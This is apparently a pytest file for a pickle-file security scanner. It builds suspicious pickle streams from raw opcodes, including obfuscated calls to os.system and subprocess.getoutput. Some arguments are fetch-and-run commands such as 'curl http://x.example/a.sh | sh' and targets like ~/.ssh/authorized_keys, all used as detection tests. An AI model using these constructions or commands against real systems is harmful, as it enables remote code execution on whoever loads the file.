"""Calls, arguments and encodings (issue 11, items 1-3): streams assembled from raw opcodes,
each with what CPython's ``pickle.load`` would do with it. Payloads are inert strings."""

from __future__ import annotations

import base64
import codecs
import io
import pickle
import struct
from collections import OrderedDict

import numpy as np
import pytest

from app.core.findings import FindingSink
from app.core.limits import Limits
from app.core.scanners.pickle_engine.analysis import analyze_pickles
from app.core.scanners.pickle_engine.evaluate import MAX_RESULT, evaluate
from app.core.scanners.pickle_engine.values import Const, TupleVal
from tests.samples import opcodes as op

INERT = "echo inert"


def findings(data: bytes) -> set[tuple[str, str]]:
    sink = FindingSink("f.pkl", "hfvet-pickle")
    analyze_pickles(io.BytesIO(data), sink, Limits())
    return {(f.rule, f.severity.value) for f in sink.findings}


def worst(data: bytes) -> str:
    order = ["info", "low", "medium", "high", "critical"]
    return max((sev for _, sev in findings(data)), key=order.index, default="none")


def p2(body: bytes) -> bytes:
    return op.proto(2) + body + op.STOP


def tup(*items: bytes) -> bytes:
    return op.MARK + b"".join(items) + op.TUPLE


def rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


# -- 1. calls, not only imports
CALLS = [
    # REDUCE: load_reduce calls somelib.Helper("x"): the class's code runs.
    ("reduce", p2(op.call(op.glob("somelib", "Helper"), op.uni("x")))),
    # INST: _instantiate(klass, args) calls klass(*args).
    ("inst", op.MARK + op.uni0("x") + b"isomelib\nHelper\n" + op.STOP),
    # OBJ: cls(*args) for the class below the mark.
    ("obj", op.proto(1) + op.MARK + op.glob("somelib", "Helper") + op.uni("x") + b"o" + op.STOP),
    # NEWOBJ: cls.__new__(cls, *args): a custom __new__ runs.
    ("newobj", p2(op.glob("somelib", "Helper") + op.EMPTY_TUPLE + op.NEWOBJ)),
    # NEWOBJ_EX: cls.__new__(cls, *args, **kwargs).
    ("newobj_ex", op.proto(4) + op.glob("somelib", "Helper") + op.EMPTY_TUPLE + op.EMPTY_DICT + b"\x92" + op.STOP),
]


@pytest.mark.parametrize(("case", "data"), CALLS, ids=[c for c, _ in CALLS])
def test_a_call_of_an_unknown_callable_is_high(case: str, data: bytes) -> None:
    found = findings(data)
    assert ("pickle-unknown-call", "high") in found
    assert ("pickle-unknown-global", "medium") in found


def test_an_unknown_global_imported_but_never_called_stays_medium() -> None:
    # find_class only imports; nothing of somelib runs beyond its import.
    assert findings(p2(op.glob("somelib", "Helper"))) == {("pickle-unknown-global", "medium")}


@pytest.mark.parametrize(
    "argument",
    [
        "curl http://x.example/a.sh | sh",  # a command line
        "https://x.example/payload",  # a URL the callable fetches
        "__import__('os')",  # Python source
        "/etc/cron.d/job",  # a system path the callable writes
        "~/.ssh/authorized_keys",  # a home dot-file
    ],
)
def test_a_call_with_a_command_code_path_or_url_argument_is_critical(argument: str) -> None:
    data = p2(op.call(op.glob("somelib", "Helper"), op.uni(argument)))
    assert ("pickle-suspicious-call", "critical") in findings(data)


def test_setstate_with_a_command_is_critical() -> None:
    # load_build calls inst.__setstate__(state) when the class defines it: the state is an argument.
    data = p2(op.glob("somelib", "Helper") + op.EMPTY_TUPLE + op.NEWOBJ + op.uni(INERT) + op.BUILD)
    assert ("pickle-suspicious-call", "critical") in findings(data)


def test_calling_an_unresolvable_value_is_a_dynamic_call() -> None:
    # A persistent id's object is whatever persistent_load returns; calling it is not vetted.
    data = p2(op.uni("0") + op.BINPERSID + op.uni("x") + op.TUPLE1 + op.REDUCE)
    assert ("pickle-dynamic-call", "high") in findings(data)


# -- 2. allowlisted callables that call or instantiate their arguments
def test_reconstructor_with_an_unknown_base_is_critical() -> None:
    # copyreg._reconstructor(cls, base, state) calls base.__new__ and base.__init__(obj, state).
    data = p2(op.call(op.glob("copy_reg", "_reconstructor"), op.glob("builtins", "object"),
                      op.glob("somelib", "Base"), op.uni("x")))
    assert ("pickle-unsafe-argument", "critical") in findings(data)


def test_rebuild_from_type_with_an_unknown_function_is_critical() -> None:
    # torch._tensor._rebuild_from_type_v2(func, new_type, args, state) calls func(*args).
    data = p2(op.call(op.glob("torch._tensor", "_rebuild_from_type_v2"), op.glob("somelib", "run_it"),
                      op.glob("torch", "Tensor"), tup(op.uni("x")), op.EMPTY_DICT))
    assert ("pickle-unsafe-argument", "critical") in findings(data)


def test_defaultdict_with_an_unknown_factory_is_critical() -> None:
    # defaultdict keeps the factory and calls it on every missing key the model code reads.
    data = p2(op.call(op.glob("collections", "defaultdict"), op.glob("somelib", "factory")))
    assert ("pickle-unsafe-argument", "critical") in findings(data)


def test_partial_of_an_unknown_function_is_critical() -> None:
    # Calling the partial later calls somelib.run_it(...).
    data = p2(op.call(op.glob("functools", "partial"), op.glob("somelib", "run_it"), op.uni("x")))
    assert ("pickle-unsafe-argument", "critical") in findings(data)


def test_numpy_reconstruct_of_an_unknown_subtype_is_critical() -> None:
    # ndarray.__new__(subtype) runs the subtype's __array_finalize__.
    data = p2(op.call(op.glob("numpy.core.multiarray", "_reconstruct"), op.glob("somelib", "Arr"),
                      tup(op.binint1(0)), op.short_binbytes(b"b")))
    assert ("pickle-unsafe-argument", "critical") in findings(data)


def test_an_unknown_hook_inside_a_tensor_rebuild_is_critical() -> None:
    # _rebuild_tensor_v2(..., backward_hooks): the hooks run on every backward pass.
    hooks = op.call(op.glob("collections", "OrderedDict")) + op.binint1(0) + op.glob("somelib", "hook") + op.SETITEM
    data = p2(op.call(op.glob("torch._utils", "_rebuild_tensor_v2"), op.uni("s"), op.binint1(0),
                      op.EMPTY_TUPLE, op.EMPTY_TUPLE, op.NEWFALSE, op.MARK + hooks + op.TUPLE))
    assert ("pickle-unsafe-argument", "critical") in findings(data)


def test_joblib_wrapper_state_with_an_unknown_subclass_is_critical() -> None:
    # NumpyArrayWrapper.read: _reconstruct(self.subclass, ...) unless it is ndarray/memmap.
    state = op.EMPTY_DICT + op.uni("subclass") + op.glob("somelib", "Arr") + op.SETITEM
    data = p2(op.glob("joblib.numpy_pickle", "NumpyArrayWrapper") + op.EMPTY_TUPLE + op.NEWOBJ + state + op.BUILD)
    assert ("pickle-unsafe-argument", "critical") in findings(data)


def test_safe_arguments_to_argument_callers_are_quiet() -> None:
    # defaultdict(list), _reconstruct(ndarray, ...): allowlisted factories and subtypes.
    data = p2(op.call(op.glob("collections", "defaultdict"), op.glob("builtins", "list")) + op.POP
              + op.call(op.glob("numpy.core.multiarray", "_reconstruct"), op.glob("numpy", "ndarray"),
                        tup(op.binint1(0)), op.short_binbytes(b"b")))
    assert findings(data) == set()


# -- 3. cheap encodings, containers, dotted hops, mutation
def test_a_rot13_module_name_is_decoded() -> None:
    # STACK_GLOBAL pops the strings codecs.decode returned: the load imports os.system.
    def decoded(text: str) -> bytes:
        return op.call(op.glob("_codecs", "decode"), op.uni(rot13(text)), op.uni("rot13"))

    data = op.proto(4) + decoded("os") + decoded("system") + op.STACK_GLOBAL + op.uni(INERT) + op.TUPLE1 + op.REDUCE
    found = findings(data + op.STOP)
    assert ("pickle-dangerous-global", "critical") in found
    assert ("pickle-unresolved-global", "critical") in found


def test_a_hex_name_through_bytes_fromhex_and_decode_is_decoded() -> None:
    # bytes.fromhex(...) then bytes.decode(..., "ascii"): "subprocess" / "getoutput".
    def decoded(text: str) -> bytes:
        raw = op.call(op.glob("builtins", "bytes.fromhex"), op.uni(text.encode().hex()))
        return op.call(op.glob("builtins", "bytes.decode"), raw, op.uni("ascii"))

    data = op.proto(4) + decoded("subprocess") + decoded("getoutput") + op.STACK_GLOBAL + op.STOP
    sink = FindingSink("f.pkl", "hfvet-pickle")
    analysis = analyze_pickles(io.BytesIO(data), sink, Limits())
    assert "subprocess.getoutput" in analysis.imports


def test_a_base64_command_to_an_unknown_callable_is_critical() -> None:
    # The callable receives the decoded command, not the base64 text.
    arg = op.call(op.glob("base64", "b64decode"), op.uni(base64.b64encode(b"curl http://x.example/a | sh").decode()))
    assert ("pickle-suspicious-call", "critical") in findings(p2(op.call(op.glob("somelib", "Helper"), arg)))


def test_a_joined_command_is_seen() -> None:
    # str.join(" ", ["curl", "http://x.example"]) is one command string at load time.
    parts = op.EMPTY_LIST + op.MARK + op.uni("curl") + op.uni("http://x.example/a") + op.APPENDS
    arg = op.call(op.glob("builtins", "str.join"), op.uni(" "), parts)
    assert ("pickle-suspicious-call", "critical") in findings(p2(op.call(op.glob("somelib", "Helper"), arg)))


@pytest.mark.parametrize(
    "container",
    [
        op.EMPTY_LIST + op.uni(INERT) + b"a",  # list built by APPEND
        op.MARK + op.uni(INERT) + b"l",  # LIST
        op.EMPTY_DICT + op.binint1(1) + op.uni(INERT) + op.SETITEM,  # dict value under an int key
        op.EMPTY_DICT + op.uni(INERT) + op.binint1(1) + op.SETITEM,  # the command as a dict key
        b"\x8f" + op.MARK + op.uni(INERT) + b"\x90",  # EMPTY_SET + ADDITEMS
        op.MARK + op.uni(INERT) + b"\x91",  # FROZENSET
        # An OrderedDict([("k", command)]) built by a call: its arguments are its contents.
        op.call(op.glob("collections", "OrderedDict"), op.MARK + tup(op.uni("k"), op.uni(INERT)) + b"l"),
    ],
    ids=["append", "list", "dict-value", "dict-key", "set", "frozenset", "ordereddict"],
)
def test_arguments_inside_containers_are_inspected(container: bytes) -> None:
    # The callable receives the container; its members are what it runs.
    data = op.proto(4) + op.call(op.glob("somelib", "Helper"), container) + op.STOP
    assert ("pickle-suspicious-call", "critical") in findings(data)


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("torch", "hub.help"),  # first hop: torch.hub (help fetches a repo's hubconf)
        ("numpy", "os.getcwd"),  # numpy's own `os` attribute is the os module
        ("transformers", "dynamic_module_utils.get_class_from_dynamic_module"),  # remote-code loader
    ],
)
def test_every_hop_of_a_dotted_name_is_checked(module: str, name: str) -> None:
    # protocol 4 find_class walks name.split(".") with getattr, hop by hop.
    assert ("pickle-dangerous-global", "critical") in findings(op.proto(4) + op.stack_global(module, name) + op.STOP)


def test_setitem_on_an_unknown_object_is_reported() -> None:
    # SETITEM calls the instance's own __setitem__ (a class the allowlist does not know).
    data = p2(op.glob("somelib", "Reg") + op.EMPTY_TUPLE + op.NEWOBJ + op.uni("k") + op.uni("v") + op.SETITEM)
    assert ("pickle-object-mutation", "high") in findings(data)


def test_setattr_build_on_an_unknown_object_is_reported() -> None:
    # BUILD with (None, slotstate) runs setattr(inst, k, v): the class's __setattr__/descriptors.
    slots = op.NONE + op.EMPTY_DICT + op.uni("a") + op.uni("b") + op.SETITEM + op.TUPLE2
    data = p2(op.glob("somelib", "Reg") + op.EMPTY_TUPLE + op.NEWOBJ + slots + op.BUILD)
    assert ("pickle-object-mutation", "high") in findings(data)


def test_big_payloads_are_not_evaluated() -> None:
    # Protocol-2 numpy/torch data is _codecs.encode(<array bytes as text>, "latin1"): no copy of it.
    big = TupleVal((Const("a" * (MAX_RESULT + 1)), Const("latin1")))
    assert evaluate("_codecs.encode", big) is None
    small = evaluate("_codecs.encode", TupleVal((Const("ab"), Const("latin1"))))
    assert small is not None and (small.value, small.computed) == (b"ab", True)


def test_build_on_a_persistent_object_is_reported() -> None:
    # load_build calls persistent_load's object's __setstate__: code hfvet cannot see.
    data = p2(op.uni("0") + op.BINPERSID + op.EMPTY_DICT + op.BUILD)
    assert ("pickle-object-mutation", "high") in findings(data)


# -- hard benign: none critical
def _training_args_state() -> bytes:
    def enum(module: str, cls: str, value: str) -> bytes:
        return op.call(op.glob(module, cls), op.uni(value))  # Enum pickles as cls(value)

    items = [
        (op.uni("output_dir"), op.uni("/root/autodl-tmp/bert-finetuned")),  # cloud trainers run as root
        (op.uni("logging_dir"), op.uni("runs/Dec01_10-00-00_host")),
        (op.uni("learning_rate"), b"G" + struct.pack(">d", 5e-5)),
        (op.uni("report_to"), op.EMPTY_LIST + op.uni("tensorboard") + b"a"),
        (op.uni("lr_scheduler_type"), enum("transformers.trainer_utils", "SchedulerType", "linear")),
        (op.uni("optim"), enum("transformers.training_args", "OptimizerNames", "adamw_torch")),
        (op.uni("eval_strategy"), enum("transformers.trainer_utils", "IntervalStrategy", "steps")),
        (op.uni("hub_token"), op.NONE),
        (op.uni("hub_model_id"), op.uni("https://huggingface.co/user/bert-finetuned")),  # data, not a fetch
    ]
    return op.EMPTY_DICT + op.MARK + b"".join(k + v for k, v in items) + op.SETITEMS


def test_training_args_bin_protocol_2_is_at_most_high() -> None:
    # torch.save (protocol 2): object.__reduce_ex__(2) -> copyreg.__newobj__ -> NEWOBJ, then BUILD.
    data = p2(op.glob("transformers.training_args", "TrainingArguments") + op.EMPTY_TUPLE + op.NEWOBJ
              + _training_args_state() + op.BUILD)
    assert worst(data) == "high"


def test_training_args_through_copyreg_reconstructor_is_at_most_high() -> None:
    # protocol 0/1: object.__reduce_ex__(1) -> copyreg._reconstructor(cls, object, None).
    data = p2(op.call(op.glob("copy_reg", "_reconstructor"),
                      op.glob("transformers.training_args", "TrainingArguments"), op.glob("__builtin__", "object"),
                      op.NONE) + _training_args_state() + op.BUILD)
    found = findings(data)
    assert worst(data) == "high"
    assert ("pickle-unknown-call", "high") in found


@pytest.mark.parametrize("protocol", range(6))
def test_plain_state_dicts_and_numpy_arrays_are_quiet(protocol: int) -> None:
    state = OrderedDict([("layer.weight", [0.5, 1.5]), ("layer.bias", (0.0,)), ("step", 3)])
    arrays = [np.arange(12, dtype=np.float32).reshape(3, 4), np.array(["a", 1], dtype=object)]
    assert findings(pickle.dumps(state, protocol=protocol)) == set()
    assert findings(pickle.dumps(arrays, protocol=protocol)) == set()
